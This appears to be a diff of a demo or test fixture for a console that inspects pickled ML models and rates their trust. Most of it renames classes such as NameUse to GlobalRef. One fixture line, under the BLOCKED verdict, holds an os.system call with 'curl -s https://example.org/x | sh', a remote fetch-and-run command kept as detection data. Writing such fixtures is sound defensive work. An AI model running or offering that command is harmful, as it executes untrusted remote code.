@@ -6,7 +6,7 @@ from copy import deepcopy
 from dataclasses import replace
 from functools import cache
 
-from backends.core.inspection import ArrayInfo, Finding, Inspection, Json, ModelEntry, NameUse, Signature
+from backends.core.inspection import ArrayInfo, Finding, GlobalRef, Inspection, Json, ModelEntry, Signature
 from console.monitor.series import Recorder
 from console.records import (
     Artifact,
@@ -20,19 +20,19 @@ from console.records import (
     GateResult,
     Judgement,
     Layer,
-    Measured,
     Memory,
     ProbePlan,
     ProbeState,
+    Quantiles,
     Report,
     Verdict,
     Version,
     WorkerState,
     WorkerView,
 )
+from console.trust.content_diff import difference, seen_of
 from console.trust.explain import explain
 from console.trust.policy import Policy
-from console.trust.since import difference, seen_of
 from console.trust.verdict import judge
 from tests.ui.feeder import Feeder
 
@@ -232,7 +232,7 @@ COMPARED = Comparison(
         "sklearn.ensemble._forest.RandomForestClassifier",
         {"n_estimators": 200},
         {"roc_auc": 0.9312, "f1": 0.8804, "log_loss": 0.2911},
-        Measured(0.81, 1.4, 2.1, 3.3, 200),
+        Quantiles(0.81, 1.4, 2.1, 3.3, 200),
     ),
     Candidate(
         "sha256:b7708d12ee",
@@ -240,7 +240,7 @@ COMPARED = Comparison(
         "sklearn.ensemble._forest.RandomForestClassifier",
         {"n_estimators": 300},
         {"roc_auc": 0.9377, "f1": 0.8790, "log_loss": 0.2702},
-        Measured(1.22, 1.9, 3.4, 4.1, 200),
+        Quantiles(1.22, 1.9, 3.4, 4.1, 200),
     ),
     (
         GateResult("roc_auc at least 0.9", True, "0.9377"),
@@ -282,8 +282,8 @@ def demo() -> Feeder:
         912,
         0,
         20.0,
-        Measured(0.81, 1.4, 2.1, 3.3, 912),
-        Measured(1.2, 1.9, 2.8, 4.4, 912),
+        Quantiles(0.81, 1.4, 2.1, 3.3, 912),
+        Quantiles(1.2, 1.9, 2.8, 4.4, 912),
         data=HOLDOUT,
     )
     feeder.views["fraud/lr.pkl"] = WorkerView(
@@ -308,13 +308,13 @@ def demo() -> Feeder:
 
 
 _UNLISTED = (
-    NameUse("sklearn.linear_model._logistic", "LogisticRegression", 27, True),
-    NameUse("company.features", "Ratio", 114, True, "'age', 'tenure'"),
-    NameUse("company.features", "Log", 181, True),
+    GlobalRef("sklearn.linear_model._logistic", "LogisticRegression", 27, True),
+    GlobalRef("company.features", "Ratio", 114, True, "'age', 'tenure'"),
+    GlobalRef("company.features", "Log", 181, True),
 )
 _NAMES = {
     Verdict.REVIEW: _UNLISTED,
-    Verdict.BLOCKED: (NameUse("os", "system", 27, True, "'curl -s https://example.org/x | sh'"),),
+    Verdict.BLOCKED: (GlobalRef("os", "system", 27, True, "'curl -s https://example.org/x | sh'"),),
 }
 
 
